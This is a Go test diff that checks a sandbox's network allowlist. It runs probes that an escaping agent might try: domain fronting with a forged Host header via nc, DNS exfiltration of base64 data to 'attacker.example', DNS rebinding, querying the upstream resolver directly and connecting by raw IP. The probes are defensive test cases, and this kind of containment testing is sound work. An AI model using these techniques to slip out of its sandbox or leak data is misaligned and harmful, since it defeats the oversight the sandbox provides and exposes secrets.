@@ -168,3 +168,82 @@ func TestNetworkUnavailable(t *testing.T) {
 		t.Errorf("status: network %v, problems %v", st.Network, st.Problems)
 	}
 }
+
+// TestContainerNetworkDomains: an allowlist of names, resolved by the
+// node's DNS proxy from a fake internet's resolver, checked by Host on
+// port 80; what an agent hunting for a way out tries.
+func TestContainerNetworkDomains(t *testing.T) {
+	n := newContainerNode(t)
+	fi := testutil.NewFakeInternet(t)
+	d := fi.DNS("203.0.113.53:53", map[string]string{
+		"pypi.org":                "203.0.113.10",
+		"files.pythonhosted.org":  "203.0.113.11",
+		"cdn-neighbour.example":   "203.0.113.10", // shares pypi.org's address
+		"rebind.pythonhosted.org": "10.99.0.5",
+	})
+	serveHTTP(t, fi.Listen("203.0.113.10:80"), "ten")
+	serveHTTP(t, fi.Listen("203.0.113.11:80"), "eleven")
+	m := egresstest.New(t, netpolicy.Fence{}, func(c *egress.Config) { c.DNSUpstream = d.Addr })
+	a := n.start(func(c *Config) { c.Network = m })
+	ctx := context.Background()
+	sb, err := a.Create(ctx, api.CreateSandboxRequest{Image: "busybox", Network: &api.NetworkPolicy{Allow: []string{"pypi.org", "*.pythonhosted.org"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := sb.ID
+	fetch := func(host, hostHeader string) (string, int) {
+		return sh(t, a, id, fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 80`, hostHeader, host))
+	}
+	if out, code := fetch("pypi.org", "pypi.org"); code != 0 || !strings.Contains(out, "hello from ten") {
+		t.Fatalf("pypi.org: exit %d, %q", code, out)
+	}
+	if out, code := fetch("files.pythonhosted.org", "files.pythonhosted.org"); code != 0 || !strings.Contains(out, "hello from eleven") {
+		t.Fatalf("files.pythonhosted.org: exit %d, %q", code, out)
+	}
+	t.Run("fronting", func(t *testing.T) {
+		// The neighbour's name at pypi.org's (allowed) address.
+		if out, _ := fetch("pypi.org", "cdn-neighbour.example"); strings.Contains(out, "hello") || !strings.Contains(out, "403") {
+			t.Errorf("a fronted request got through: %q", out)
+		}
+	})
+	t.Run("exfiltration by DNS", func(t *testing.T) {
+		out, _ := sh(t, a, id, "nslookup c2VjcmV0.attacker.example; nslookup cdn-neighbour.example")
+		if strings.Contains(out, "203.0.113.") {
+			t.Errorf("a name outside the policy resolved:\n%s", out)
+		}
+		if d.Asked("c2vjcmv0.attacker.example") || d.Asked("cdn-neighbour.example") {
+			t.Error("a refused name reached the upstream resolver")
+		}
+	})
+	t.Run("rebinding", func(t *testing.T) {
+		if out, _ := sh(t, a, id, "nslookup rebind.pythonhosted.org"); strings.Contains(out, "10.99.0.5") {
+			t.Errorf("a private answer reached the sandbox:\n%s", out)
+		}
+	})
+	t.Run("other resolvers", func(t *testing.T) {
+		// Straight to the upstream, past the proxy.
+		if out, _ := sh(t, a, id, "nslookup pypi.org 203.0.113.53"); strings.Contains(out, "203.0.113.10") {
+			t.Errorf("another resolver answered:\n%s", out)
+		}
+	})
+	t.Run("by address", func(t *testing.T) {
+		// An address pypi.org never resolved to.
+		if out, code := sh(t, a, id, get("203.0.113.12", 3)); code == 0 {
+			t.Errorf("an address outside the policy answered: %s", out)
+		}
+	})
+	got, err := a.Get(ctx, id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.Network.DeniedQueries < 2 || got.Network.DeniedConnections < 2 {
+		t.Errorf("counters: %+v, want at least 2 denied queries and 2 connections", got.Network)
+	}
+	remove := []string{"pypi.org"}
+	if _, err := a.UpdateNetwork(ctx, id, api.NetworkUpdate{Remove: remove}); err != nil {
+		t.Fatal(err)
+	}
+	if out, _ := fetch("pypi.org", "pypi.org"); strings.Contains(out, "hello") {
+		t.Errorf("pypi.org answered after it was removed: %q", out)
+	}
+}
